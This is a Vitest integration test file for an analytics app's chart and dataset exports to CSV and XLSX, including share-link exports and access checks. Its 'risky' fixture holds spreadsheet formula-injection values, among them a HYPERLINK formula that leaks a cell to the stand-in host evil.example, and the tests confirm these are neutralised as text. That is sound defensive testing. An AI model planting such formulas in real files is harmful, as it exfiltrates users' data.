import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, inject, it, onTestFinished } from 'vitest';
import { buildTestApp, type TestApp } from '../helpers/app.js';
import { postgresConnection, type Person } from '../helpers/fixtures.js';
import { createTempDatabase } from '../helpers/postgres-server.js';

/** Exports read back by a CSV parser and by exceljs, compared with the chart's own data. */
describe('chart and dataset exports over a real Postgres', () => {
  let t: TestApp;
  let owner: Person;
  let db: { url: string; drop(): Promise<void> };
  let projectId: number;
  let brewName: string;
  let datasetId: number;
  let connectionId: number;

  beforeAll(async () => {
    db = await createTempDatabase(inject('postgresUrl'), `
      create table orders (id int primary key, country text, status text, amount numeric(10,2), note text, created_at timestamptz);
      insert into orders values
        (1, 'FR', 'paid', 10.5, 'a, "quoted" note', '2025-01-01T10:00:00Z'),
        (2, 'FR', 'paid', 20, 'line
break', '2025-01-01T11:00:00Z'),
        (3, 'DE', 'paid', 5, 'Köln ✓', '2025-01-02T10:00:00Z'),
        (4, 'DE', 'refunded', 7, null, '2025-01-03T10:00:00Z'),
        (5, 'US', 'paid', 100, '=1+1', '2025-01-03T12:00:00Z');
      create table risky (id int primary key, note text, code text, amount float8);
      insert into risky values
        (1, '=HYPERLINK("http://evil.example/?leak="&A1,"click")', '-5', -5),
        (2, '+1+1', '+3.2', 3.2),
        (3, '-2+3', '-1e3', -1000),
        (4, '@SUM(1)', '12', 0.5),
        (5, E'\t=1', 'text', 7),
        (6, E'\r=1', '- 5', -0.25);
    `);
    t = await buildTestApp();
    owner = await t.signup('Owner');
    const url = new URL(db.url);
    const conn = (
      await t.request({
        method: 'POST',
        url: `/team/${owner.teamId}/connections`,
        token: owner.token,
        payload: postgresConnection('shop', url),
      })
    ).json();
    const project = (await t.request({ method: 'POST', url: '/project', token: owner.token, payload: { name: 'Sales', team_id: owner.teamId, timezone: 'UTC' } })).json();
    connectionId = conn.id;
    projectId = project.id;
    brewName = project.brewName;
    const ds = await t.request({
      method: 'POST',
      url: `/team/${owner.teamId}/datasets/quick-create`,
      token: owner.token,
      payload: {
        name: 'Orders',
        project_ids: [projectId],
        dataRequests: [{ connection_id: conn.id, query: 'select id, country, amount, note, created_at from orders where status = {{status}} order by id', variableBindings: [{ name: 'status', default_value: 'paid' }] }],
      },
    });
    expect(ds.statusCode, ds.body).toBe(200);
    datasetId = ds.json().id;
  });
  afterAll(async () => {
    await t?.close();
    await db?.drop();
  });

  async function chart(payload: Record<string, unknown>, config: Record<string, unknown>) {
    const res = await t.request({ method: 'POST', url: `/project/${projectId}/chart/quick-create`, token: owner.token, payload: { ...payload, chartDatasetConfigs: [{ dataset_id: datasetId, ...config }] } });
    expect(res.statusCode, res.body).toBe(200);
    const id = res.json().id as number;
    const run = await t.request({ method: 'POST', url: `/project/${projectId}/chart/${id}/query`, token: owner.token });
    expect(run.statusCode, run.body).toBe(200);
    return { id, chartData: run.json().chartData };
  }

  async function workbook(body: Buffer): Promise<ExcelJS.Workbook> {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(body as unknown as ArrayBuffer);
    return book;
  }

  const sheetRows = (sheet: ExcelJS.Worksheet): unknown[][] => {
    const rows: unknown[][] = [];
    sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    return rows;
  };

  it('a line chart: CSV (parsed) and XLSX (numbers as numbers) equal its labels and series, with a filename', async () => {
    const line = await chart({ name: 'Orders per day', type: 'line', timeInterval: 'day', includeZeros: true }, { xAxis: 'root[].created_at', dateField: 'root[].created_at', yAxis: 'root[].amount', yAxisOperation: 'sum', legend: 'Revenue' });
    const { labels, datasets } = line.chartData.data;
    expect(labels).toEqual(['2025-01-01', '2025-01-02', '2025-01-03']);

    const csv = await t.request({ method: 'GET', url: `/project/${projectId}/chart/${line.id}/export?format=csv`, token: owner.token });
    expect(csv.statusCode, csv.body).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toBe(`attachment; filename="Orders per day.csv"; filename*=UTF-8''Orders%20per%20day.csv`);
    const parsed = parse(csv.body, { bom: true }) as string[][];
    expect(parsed[0]).toEqual(['label', 'Revenue']);
    expect(parsed.slice(1)).toEqual(labels.map((l: string, i: number) => [l, String(datasets[0].data[i])]));

    const xlsx = await t.request({ method: 'GET', url: `/project/${projectId}/chart/${line.id}/export?format=xlsx`, token: owner.token });
    expect(xlsx.statusCode).toBe(200);
    expect(xlsx.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(xlsx.headers['content-disposition']).toContain('filename="Orders per day.xlsx"');
    const rows = sheetRows((await workbook(xlsx.rawPayload)).worksheets[0]!);
    expect(rows).toEqual([['label', 'Revenue'], ...labels.map((l: string, i: number) => [l, datasets[0].data[i]])]);
    expect(typeof rows[1]![1]).toBe('number');
  });

  it('a gap (missingValues preserve) is an empty cell in CSV and XLSX', async () => {
    const bars = await chart(
      { name: 'Revenue by country', type: 'bar', timeInterval: 'day', missingValues: 'preserve' },
      { xAxis: 'root[].created_at', dateField: 'root[].created_at', yAxis: 'root[].amount', yAxisOperation: 'sum', legend: 'Revenue', breakdown: 'root[].country' },
    );
    // Paid orders: FR 30.5 on the 1st, DE 5 on the 2nd, US 100 on the 3rd.
    expect(bars.chartData.data.datasets.map((d: { label: string; data: unknown[] }) => [d.label, d.data])).toEqual([
      ['US', [null, null, 100]],
      ['FR', [30.5, null, null]],
      ['DE', [null, 5, null]],
    ]);
    const csv = await t.request({ method: 'GET', url: `/project/${projectId}/chart/${bars.id}/export?format=csv`, token: owner.token });
    expect(csv.statusCode, csv.body).toBe(200);
    expect(parse(csv.body, { bom: true })).toEqual([
      ['label', 'US', 'FR', 'DE'],
      ['2025-01-01', '', '30.5', ''],
      ['2025-01-02', '', '', '5'],
      ['2025-01-03', '100', '', ''],
    ]);
    const xlsx = await t.request({ method: 'GET', url: `/project/${projectId}/chart/${bars.id}/export?format=xlsx`, token: owner.token });
    expect(xlsx.statusCode).toBe(200);
    const sheet = (await workbook(xlsx.rawPayload)).worksheets[0]!;
    const cells = [2, 3, 4].map((r) => [2, 3, 4].map((c) => sheet.getRow(r).getCell(c).value));
    expect(cells).toEqual([
      [null, 30.5, null],
      [null, null, 5],
      [100, null, null],
    ]);
  });

  it('an export computes the chart without saving its data or recording a refresh', async () => {
    const res = await t.request({ method: 'POST', url: `/project/${projectId}/chart/quick-create`, token: owner.token, payload: { name: 'Never refreshed', type: 'bar', chartDatasetConfigs: [{ dataset_id: datasetId, xAxis: 'root[].country', yAxis: 'root[].amount', yAxisOperation: 'sum' }] } });
    expect(res.statusCode, res.body).toBe(200);
    const id = res.json().id as number;
    const csv = await t.request({ method: 'GET', url: `/project/${projectId}/chart/${id}/export?format=csv`, token: owner.token });
    expect(csv.statusCode, csv.body).toBe(200);
    expect(parse(csv.body, { bom: true }).slice(1)).toEqual([['DE', '5'], ['FR', '30.5'], ['US', '100']]);
    const saved = (await t.request({ method: 'GET', url: `/project/${projectId}/chart/${id}`, token: owner.token })).json();
    expect(saved.chartData).toBeNull();
    expect(saved.chartDataUpdated).toBeNull();
    const runs = (await t.request({ method: 'GET', url: `/project/${projectId}/chart/${id}/runs`, token: owner.token })).json();
    expect(runs.total).toBe(0);
  });

  it('a table chart exports its rows; text with commas, quotes, newlines and formulas survives as text', async () => {
    // In CSV, text that starts like a formula gets a leading ' (see the formula tests below).
    const text = (value: unknown) => (value === null || value === undefined ? '' : String(value) === '=1+1' ? "'=1+1" : String(value));
    const table = await chart({ name: 'Orders table', type: 'table' }, { legend: 'Orders' });
    const { columns, data } = table.chartData.Orders;
    const accessors = columns.map((c: { accessor: string }) => c.accessor);
    const csv = await t.request({ method: 'GET', url: `/project/${projectId}/chart/${table.id}/export?format=csv`, token: owner.token });
    const parsed = parse(csv.body, { bom: true }) as string[][];
    expect(parsed[0]).toEqual(accessors);
    expect(parsed.slice(1)).toEqual(data.map((row: Record<string, unknown>) => accessors.map((a: string) => text(row[a]))));
    expect(parsed.map((r) => r[accessors.indexOf('note')])).toEqual(expect.arrayContaining(['line\nbreak', "'=1+1"]));

    const xlsx = await t.request({ method: 'GET', url: `/project/${projectId}/chart/${table.id}/export?format=xlsx`, token: owner.token });
    const sheet = (await workbook(xlsx.rawPayload)).worksheets[0]!;
    expect(sheet.name).toBe('Orders');
    const rows = sheetRows(sheet);
    expect(rows[0]).toEqual(accessors);
    // Formula-looking text is a string cell, never a formula.
    const idCol = accessors.indexOf('id') + 1;
    const noteCol = accessors.indexOf('note') + 1;
    const us = rows.findIndex((r) => r[idCol - 1] === 5);
    expect(us).toBeGreaterThan(0);
    expect(sheet.getRow(us + 1).getCell(noteCol).value).toBe('=1+1');
    expect(sheet.getRow(us + 1).getCell(noteCol).type).toBe(ExcelJS.ValueType.String);
  });

  describe('text that a spreadsheet would run as a formula', () => {
    // Column names that are formulas too: a header is a cell like any other.
    const NOTE = '=HYPERLINK("http://evil.example","x")';
    const CODE = '@SUM(1)';
    const query = `select id, note as "${NOTE.replace(/"/g, '""')}", code as "${CODE}", amount from risky order by id`;
    // What a spreadsheet program must see: text with a leading ', plain numbers as they are.
    const header = ['id', `'${NOTE}`, `'${CODE}`, 'amount'];
    const cells = [
      ['1', `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`, '-5', '-5'],
      ['2', "'+1+1", '+3.2', '3.2'],
      ['3', "'-2+3", '-1e3', '-1000'],
      ['4', "'@SUM(1)", '12', '0.5'],
      ['5', "'\t=1", 'text', '7'],
      ['6', "'\r=1", "'- 5", '-0.25'],
    ];
    let risky: { datasetId: number; chartId: number; projectId: number; brewName: string };

    beforeAll(async () => {
      const project = (await t.request({ method: 'POST', url: '/project', token: owner.token, payload: { name: 'Risky', team_id: owner.teamId, timezone: 'UTC' } })).json();
      const ds = await t.request({
        method: 'POST',
        url: `/team/${owner.teamId}/datasets/quick-create`,
        token: owner.token,
        payload: { name: 'Risky', project_ids: [project.id], dataRequests: [{ connection_id: connectionId, query }] },
      });
      expect(ds.statusCode, ds.body).toBe(200);
      const created = await t.request({ method: 'POST', url: `/project/${project.id}/chart/quick-create`, token: owner.token, payload: { name: 'Risky rows', type: 'table', chartDatasetConfigs: [{ dataset_id: ds.json().id, legend: 'Risky' }] } });
      expect(created.statusCode, created.body).toBe(200);
      const run = await t.request({ method: 'POST', url: `/project/${project.id}/chart/${created.json().id}/query`, token: owner.token });
      expect(run.statusCode, run.body).toBe(200);
      risky = { datasetId: ds.json().id, chartId: created.json().id, projectId: project.id, brewName: project.brewName };
    });

    const csvRows = (body: string) => parse(body, { bom: true, relax_column_count: true }) as string[][];

    it('are neutralised in CSV cells and headers of the dataset and chart exports; numbers stay numbers', async () => {
      const dataset = await t.request({ method: 'GET', url: `/team/${owner.teamId}/datasets/${risky.datasetId}/export?format=csv`, token: owner.token });
      expect(dataset.statusCode, dataset.body).toBe(200);
      expect(csvRows(dataset.body)).toEqual([header, ...cells]);

      const chart = await t.request({ method: 'GET', url: `/project/${risky.projectId}/chart/${risky.chartId}/export?format=csv`, token: owner.token });
      expect(chart.statusCode, chart.body).toBe(200);
      const rows = csvRows(chart.body);
      const order = header.map((name) => rows[0]!.indexOf(name));
      expect(order).not.toContain(-1);
      expect(rows.map((row) => order.map((i) => row[i]))).toEqual([header, ...cells]);
    });

    it('are neutralised in an anonymous share-link export', async () => {
      const allow = (allowReportExport: boolean) => t.request({ method: 'PUT', url: `/team/${owner.teamId}`, token: owner.token, payload: { allowReportExport } });
      expect((await allow(true)).statusCode).toBe(200);
      onTestFinished(async () => void (await allow(false)));
      const policy = (await t.request({ method: 'POST', url: `/project/${risky.projectId}/share/policy`, token: owner.token })).json();
      const { token } = (await t.request({ method: 'POST', url: `/project/${risky.projectId}/share/token`, token: owner.token, payload: { sharePolicyId: policy.id } })).json();
      const shared = await t.request({ method: 'GET', url: `/project/dashboard/${risky.brewName}/chart/${risky.chartId}/export?format=csv&token=${token}` });
      expect(shared.statusCode, shared.body).toBe(200);
      const rows = csvRows(shared.body);
      const order = header.map((name) => rows[0]!.indexOf(name));
      expect(order).not.toContain(-1);
      expect(rows.map((row) => order.map((i) => row[i]))).toEqual([header, ...cells]);
    });

    it('stay plain strings in XLSX (never formulas), and numbers stay numbers', async () => {
      const xlsx = await t.request({ method: 'GET', url: `/team/${owner.teamId}/datasets/${risky.datasetId}/export?format=xlsx`, token: owner.token });
      expect(xlsx.statusCode).toBe(200);
      const sheet = (await workbook(xlsx.rawPayload)).worksheets[0]!;
      expect(sheetRows(sheet)).toEqual([
        ['id', NOTE, CODE, 'amount'],
        [1, '=HYPERLINK("http://evil.example/?leak="&A1,"click")', '-5', -5],
        [2, '+1+1', '+3.2', 3.2],
        [3, '-2+3', '-1e3', -1000],
        [4, '@SUM(1)', '12', 0.5],
        [5, '\t=1', 'text', 7],
        // XML reads a CR in text as a line feed: still text, never a formula.
        [6, '\n=1', '- 5', -0.25],
      ]);
      for (let r = 1; r <= 7; r += 1) for (const c of [2, 3]) expect(sheet.getRow(r).getCell(c).type).toBe(ExcelJS.ValueType.String);
      expect(sheet.getRow(2).getCell(4).type).toBe(ExcelJS.ValueType.Number);
    });
  });

  it('a KPI exports its Total row', async () => {
    const kpi = await chart({ name: 'Revenue', type: 'kpi' }, { yAxis: 'root[].amount', yAxisOperation: 'sum', legend: 'Revenue' });
    const xlsx = await t.request({ method: 'GET', url: `/project/${projectId}/chart/${kpi.id}/export?format=xlsx`, token: owner.token });
    expect(sheetRows((await workbook(xlsx.rawPayload)).worksheets[0]!)).toEqual([['label', 'Revenue'], ['Total', kpi.chartData.values[0].value]]);
    expect(kpi.chartData.values[0].value).toBe(135.5);
  });

  it('the dataset export streams the run with variables applied, and refuses a bad format or foreign caller', async () => {
    const csv = await t.request({ method: 'GET', url: `/team/${owner.teamId}/datasets/${datasetId}/export?format=csv&variables=${encodeURIComponent('{"status":"refunded"}')}`, token: owner.token });
    expect(csv.statusCode, csv.body).toBe(200);
    expect(csv.headers['content-disposition']).toContain('filename="Orders.csv"');
    const parsed = parse(csv.body, { bom: true, columns: true }) as Record<string, string>[];
    expect(parsed).toEqual([{ id: '4', country: 'DE', amount: '7', note: '', created_at: expect.stringMatching(/^2025-01-03/) }]);

    const xlsx = await t.request({ method: 'GET', url: `/team/${owner.teamId}/datasets/${datasetId}/export?format=xlsx`, token: owner.token });
    const rows = sheetRows((await workbook(xlsx.rawPayload)).worksheets[0]!);
    expect(rows[0]).toEqual(['id', 'country', 'amount', 'note', 'created_at']);
    expect(rows.slice(1).map((r) => r[0])).toEqual([1, 2, 3, 5]);

    const bad = await t.request({ method: 'GET', url: `/team/${owner.teamId}/datasets/${datasetId}/export?format=pdf`, token: owner.token });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error).toContain('format');
    const stranger = await t.signup('Stranger');
    const foreign = await t.request({ method: 'GET', url: `/team/${owner.teamId}/datasets/${datasetId}/export?format=csv`, token: stranger.token });
    expect(foreign.statusCode).toBe(403);
    const anonymous = await t.request({ method: 'GET', url: `/team/${owner.teamId}/datasets/${datasetId}/export?format=csv` });
    expect(anonymous.statusCode).toBe(401);
  });

  it('share-link exports only when the team allows report exports', async () => {
    const bar = await chart({ name: 'By country', type: 'bar' }, { xAxis: 'root[].country', yAxis: 'root[].amount', yAxisOperation: 'sum', legend: 'Amount' });
    const policy = await t.request({ method: 'POST', url: `/project/${projectId}/share/policy`, token: owner.token, payload: {} });
    expect(policy.statusCode, policy.body).toBe(200);
    const { token } = (await t.request({ method: 'POST', url: `/project/${projectId}/share/token`, token: owner.token, payload: { sharePolicyId: policy.json().id } })).json();
    const url = `/project/dashboard/${brewName}/chart/${bar.id}/export?format=csv&token=${token}`;

    const report = await t.request({ method: 'GET', url: `/project/dashboard/${brewName}?token=${token}` });
    expect(report.json().allowExport).toBe(false);
    const refused = await t.request({ method: 'GET', url });
    expect(refused.statusCode).toBe(403);
    expect(refused.json()).toMatchObject({ code: 'EXPORT_NOT_ALLOWED' });
    expect((await t.request({ method: 'GET', url: url.replace(/token=.*/, 'token=nonsense') })).statusCode).toBe(401);

    const put = await t.request({ method: 'PUT', url: `/team/${owner.teamId}`, token: owner.token, payload: { allowReportExport: true } });
    expect(put.statusCode, put.body).toBe(200);
    expect((await t.request({ method: 'GET', url: `/project/dashboard/${brewName}?token=${token}` })).json().allowExport).toBe(true);
    const ok = await t.request({ method: 'GET', url });
    expect(ok.statusCode, ok.body).toBe(200);
    const parsed = parse(ok.body, { bom: true }) as string[][];
    const { labels, datasets } = bar.chartData.data;
    expect(parsed).toEqual([['label', 'Amount'], ...labels.map((l: string, i: number) => [l, String(datasets[0].data[i])])]);
    // Without a token a private report stays closed.
    expect((await t.request({ method: 'GET', url: `/project/dashboard/${brewName}/chart/${bar.id}/export?format=csv` })).statusCode).toBe(401);
  });
});
